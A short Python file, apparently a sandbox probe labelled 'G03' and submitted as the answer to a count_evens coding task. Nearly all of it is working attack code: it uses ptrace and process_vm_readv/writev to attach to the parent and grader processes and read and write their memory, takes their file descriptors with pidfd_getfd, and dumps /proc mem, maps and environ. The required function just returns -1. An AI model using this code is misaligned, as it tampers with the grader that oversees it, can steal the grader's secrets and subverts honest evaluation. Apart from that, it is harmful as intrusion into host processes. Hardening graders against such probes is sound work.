"""G03: traces the grader and the server, reads and writes their memory, and takes their descriptors."""

# %% count_evens
import ctypes, os

libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
buffer = ctypes.create_string_buffer(4096)
local = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 4096)
for target in (os.getppid(), GRADER):
    remote = (ctypes.c_void_p * 2)(0x400000, 4096)
    print(libc.ptrace(16, target, 0, 0), libc.ptrace(0x4206, target, 0, 0), ctypes.get_errno())
    print(
        libc.syscall(310, target, local, 1, remote, 1, 0),
        libc.syscall(311, target, local, 1, remote, 1, 0),
        ctypes.get_errno(),
    )
    print(libc.syscall(312, os.getpid(), target, 0, 0, 0), ctypes.get_errno())
    handle = libc.syscall(434, target, 0)
    print(handle, [libc.syscall(438, handle, number, 0) for number in range(3, 12)])
    for name in ("mem", "maps", "environ", "fd"):
        try:
            path = f"/proc/{target}/{name}"
            print(os.listdir(path) if name == "fd" else open(path, "rb", 0).read(500))
        except OSError as error:
            print(error)
    try:
        os.kill(target, 0)
        print("seen", target)
    except OSError as error:
        print(error)


def count_evens(numbers):
    return -1
